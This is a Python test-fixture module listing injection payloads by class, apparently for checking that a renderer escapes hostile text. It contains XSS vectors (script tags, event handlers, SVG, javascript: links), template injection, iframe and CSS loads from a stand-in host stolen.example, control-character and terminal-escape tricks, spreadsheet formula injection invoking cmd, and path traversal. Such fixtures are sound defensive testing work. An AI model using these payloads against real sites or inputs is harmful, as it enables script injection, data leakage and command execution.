"""Texts that would run, ask for something or break out, were they ever taken for anything but text; by class."""

from __future__ import annotations

MARK = "stolen"
"""What each text would set as a global, or ask for in an address, if it came to run."""

VECTORS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>window.stolen=1</script>",
        "<ScRiPt/x>window.stolen=1</sCrIpT >",
        "</script><script>window.stolen=1</script>",
        "<script src=//stolen.example/a.js></script>",
        "<script type=module>import('/stolen.js')</script>",
        "<!--<script>window.stolen=1</script>-->",
        "</title></style></textarea><script>window.stolen=1</script>",
    ),
    "handlers": (
        "<img src=x-stolen onerror=window.stolen=1>",
        "<body onload=window.stolen=1>",
        "<details open ontoggle=window.stolen=1><summary>s</summary></details>",
        "<input autofocus onfocus=window.stolen=1>",
        "<video><source onerror=window.stolen=1></video>",
        "<div style='animation:x' onanimationstart=window.stolen=1>",
        '" onmouseover="window.stolen=1" x="',
        "' autofocus tabindex=1 onfocus='window.stolen=1' '",
    ),
    "svg": (
        "<svg onload=window.stolen=1>",
        "<svg><animate onbegin=window.stolen=1 attributeName=x dur=1s>",
        "<svg><script href=data:,window.stolen=1 /></svg>",
        "<math><mtext><table><mglyph><style><img src=x-stolen onerror=window.stolen=1>",
        "<svg><use href=//stolen.example/a.svg#a /></svg>",
    ),
    "links": (
        "[click](javascript:window.stolen=1)",
        "[click](JaVaScRiPt&colon;window.stolen=1)",
        "[click](data:text/html,<script>window.stolen=1</script>)",
        "![picture](https://stolen.example/a.png)",
        "<javascript:window.stolen=1>",
        "<a href=javascript:window.stolen=1>click</a>",
        "https://stolen.example/?a=1",
        "[x]: javascript:window.stolen=1 'x'",
    ),
    "templates": (
        "{{constructor.constructor('window.stolen=1')()}}",
        "${window.stolen=1}",
        "<%= window.stolen=1 %>",
        "#{window.stolen=1}",
        "{% include 'stolen' %}",
        "%%library%%",
        "$\\href{javascript:window.stolen=1}{x}$",
        "$$\\includegraphics{https://stolen.example/a.png}$$",
    ),
    "directives": (
        ":red[red] :blue-background[blue] :rainbow[all]",
        ":material/bomb: :streamlit: :bomb:",
        ":small[x] :shimmer[y] :color[z]{foreground=red}",
        "# **bold** `code` ~~gone~~ | a | b |",
    ),
    "frames": (
        "<iframe src=javascript:parent.window.stolen=1></iframe>",
        "<iframe srcdoc='<script>parent.window.stolen=1</script>'></iframe>",
        "<object data=//stolen.example/a.swf></object><embed src=//stolen.example/b>",
        "<form action=//stolen.example><button autofocus>b</button></form>",
        "<meta http-equiv=refresh content='0;url=//stolen.example'>",
        "<base href=//stolen.example/><link rel=stylesheet href=//stolen.example/a.css>",
    ),
    "styles": (
        "<style>*{background:url(//stolen.example/a)}</style>",
        "</style><style>@import '//stolen.example/a.css'</style>",
        "red;background:url(//stolen.example/b)",
        "expression(window.stolen=1)",
    ),
    "controls": (
        "\u202egpj.exe\u202c stolen",
        "\u2066\u2067hidden\u2069 stolen",
        "sto\u200blen\u200d\ufeff\u00ad",
        "nul\x00l stolen",
        "\u2028\u2029*/window.stolen=1//",
        "\x1b[31mred\x1b]0;stolen\x07\x9b2J",
        "\x1b]8;;https://stolen.example\x1b\\link\x1b]8;;\x1b\\",
    ),
    "formats": (
        '=HYPERLINK("https://stolen.example","x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C stolen'!A0",
        '"];window_stolen [URL="javascript:window.stolen=1"];a["',
        '</data></node><node id="stolen"><data key="d0">',
        "]]><stolen/><![CDATA[",
        '"]; click a href "javascript:window.stolen=1"; a["',
        "%%{init: {'securityLevel': 'loose'}}%%",
        '"},{"id":"stolen","label":"',
    ),
    "names": (
        "__proto__",
        "constructor",
        "../../../etc/stolen",
        "x" * 10_000,
    ),
}
"""Each class of texts; a text says for itself what it would do."""

LONG = 200

TEXTS: tuple[str, ...] = tuple(text for texts in VECTORS.values() for text in texts)


def joined(size: int) -> list[str]:
    """Return so many texts at a time as one, for what shows one name only; the overlong one stays alone."""
    short = [text for text in TEXTS if len(text) < LONG]
    return [" ".join(short[at : at + size]) for at in range(0, len(short), size)]
